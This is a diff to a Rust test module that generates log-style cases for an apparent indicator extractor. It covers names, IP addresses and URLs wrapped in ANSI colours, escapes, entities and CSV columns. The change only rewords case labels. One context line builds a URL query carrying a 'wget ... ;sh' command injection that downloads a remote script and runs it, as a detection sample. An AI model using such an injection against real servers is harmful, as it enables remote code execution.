@@ -61,25 +61,25 @@ const ENDS: [&str; 44] = [
 /// All cases of this module.
 pub const FORMS: &[Case] = &[
     // Names.
-    case("name behind an ANSI colour", |s, _, r| {
+    case("name after an ANSI colour", |s, _, r| {
         let name = r.one(&s.suffixes);
         let colour = r.one(&["\u{1b}[36m", "\u{1b}[1;31m", "\u{1b}[0m", "\u{1b}[m"]);
         Piece::of(format!("{colour}{name}\u{1b}[0m")).hit(name, name, exact(name))
     }),
-    case("name behind an escape of quoted-printable", |s, _, r| {
+    case("name after an escape of quoted-printable", |s, _, r| {
         let name = r.one(&s.suffixes);
         Piece::of(format!("u=3D{name}")).hit(name, name, exact(name))
     }),
-    case("name behind a doubled escape", |s, _, r| {
+    case("name after a doubled escape", |s, _, r| {
         let name = r.one(&s.suffixes);
         let escape = r.one(&["\\\\n", "\\\\t", "\\\\r", "\\\\x20", "\\\\u0026", "%2520"]);
         Piece::of(format!("said{escape}{name}")).hit(name, name, exact(name))
     }),
-    case("name behind an XML entity", |s, _, r| {
+    case("name after an XML entity", |s, _, r| {
         let name = r.one(&s.suffixes);
         Piece::of(format!("said{}{name}&lt;", r.one(&["&quot;", "&gt;", "&#x20;"]))).hit(name, name, exact(name))
     }),
-    case("name behind an at sign that is escaped", |s, _, r| {
+    case("name after an at sign that is escaped", |s, _, r| {
         let name = r.one(&s.suffixes);
         Piece::of(format!("user%40{name}")).hit(name, name, exact(name))
     }),
@@ -105,7 +105,7 @@ pub const FORMS: &[Case] = &[
         let name = r.one(&s.suffixes);
         Piece::of(format!("admin@{name}@10.47.0.1")).hit(name, name, exact(name)).context(Email)
     }),
-    case("name in the column behind a URL", |s, c, r| {
+    case("name in the column after a URL", |s, c, r| {
         let name = r.one(&s.suffixes);
         let by = r.one(&[',', ';', '|', '^']);
         let piece = Piece::of(format!("http://{}/index.html{by}{name}{by}GET", c.name(r)));
@@ -170,7 +170,7 @@ pub const FORMS: &[Case] = &[
         Piece::of(format!("C:\\\\Users\\\\{name}")).hit(name, name, name_like(name))
     }),
     // Addresses.
-    case("address behind an ANSI colour", |s, _, r| {
+    case("address after an ANSI colour", |s, _, r| {
         let addr = r.one(&s.hosts).to_string();
         Piece::of(format!("\u{1b}[31m{addr}\u{1b}[0m")).hit(&addr, &addr, exact(&addr))
     }),
@@ -215,17 +215,17 @@ pub const FORMS: &[Case] = &[
         let addr = r.one(&s.hosts).to_string();
         Piece::of(format!("\\\\{addr}\\share")).hit(&addr, &addr, exact(&addr))
     }),
-    case("address in the column behind a URL", |s, c, r| {
+    case("address in the column after a URL", |s, c, r| {
         let addr = r.one(&s.hosts).to_string();
         let by = r.one(&[',', ';', '|', '^']);
         let piece = Piece::of(format!("http://{}/index.html{by}{addr}{by}GET", c.name(r)));
         piece.hit(&addr, &addr, exact(&addr)).place(Place::Url)
     }),
-    case("name and address behind a port", |s, _, r| {
+    case("name and address after a port", |s, _, r| {
         let name = r.one(&s.suffixes);
         Piece::of(format!("10.47.0.1/51234,{name}")).hit(name, name, exact(name))
     }),
-    case("address of a key that is no version", |s, _, r| {
+    case("address of a key that is not a version", |s, _, r| {
         let addr = r.one(&s.hosts).to_string();
         let key = r.one(&["server=", "driver: ", "srv=\"", "resolver=", "versions=", "observer:"]);
         Piece::of(format!("{key}{addr}")).hit(&addr, &addr, exact(&addr))
@@ -246,7 +246,7 @@ pub const FORMS: &[Case] = &[
         ]);
         Piece::of(format!("{key}{addr}")).hit(&addr, &addr, name_like(&addr))
     }),
-    case("version behind an escaped slash", |s, _, r| {
+    case("version after an escaped slash", |s, _, r| {
         let addr = r.one(&s.hosts).to_string();
         let seen = match r.below(3) {
             0 => format!("Mozilla%2F5.0%20Chrome%2F{addr}%20Safari"),
@@ -255,11 +255,11 @@ pub const FORMS: &[Case] = &[
         };
         Piece::of(seen).hit(&addr, &addr, name_like(&addr))
     }),
-    case("address behind a slash, with a port", |s, _, r| {
+    case("address after a slash, with a port", |s, _, r| {
         let addr = r.one(&s.hosts).to_string();
         Piece::of(format!("/{addr}:50010")).hit(&addr, &addr, exact(&addr))
     }),
-    case("address behind a slash", |s, _, r| {
+    case("address after a slash", |s, _, r| {
         let addr = r.one(&s.hosts).to_string();
         Piece::of(format!("{}/{addr}", r.one(&["", "HIER_DIRECT", "TCP_MISS"]))).hit(&addr, &addr, exact(&addr))
     }),
@@ -272,7 +272,7 @@ pub const FORMS: &[Case] = &[
             exact(addr),
         )
     }),
-    case("IPv6 address behind an ANSI colour", |s, _, r| {
+    case("IPv6 address after an ANSI colour", |s, _, r| {
         let addr = r.one(&s.hosts6).to_string();
         Piece::of(format!("\u{1b}[33m{addr}\u{1b}[0m")).hit(&addr, &addr, exact(&addr))
     }),
@@ -332,7 +332,7 @@ pub const FORMS: &[Case] = &[
         let piece = Piece::of(format!("{}{url}", r.one(&["idp.", "url", "x-", "\u{1b}[1m"])));
         piece.hit(&url, &url, strong(&url, Relation::UrlExact)).place(Place::Url)
     }),
-    case("URL behind a redirector", |s, c, r| {
+    case("URL after a redirector", |s, c, r| {
         let url = r.one(&s.urls).url();
         let piece = Piece::of(format!("http://{}/url?q={url}&sa=D&v=1", c.name(r)));
         piece.hit(&url, &url, strong(&url, Relation::UrlExact)).context(UrlQuery).place(Place::Url)
@@ -343,7 +343,7 @@ pub const FORMS: &[Case] = &[
         let piece = Piece::of(format!("http://{}/?c=wget%20{seen}%3Bsh", c.name(r)));
         piece.hit(&seen, &url, strong(&url, Relation::UrlExact)).context(UrlQuery).place(Place::Url)
     }),
-    case("URL without a scheme in the column behind a URL", |s, c, r| {
+    case("URL without a scheme in the column after a URL", |s, c, r| {
         let url = r.one(&s.urls).url();
         let seen = &url["http://".len()..];
         let piece = Piece::of(format!("http://{}/a,{seen},GET", c.name(r)));
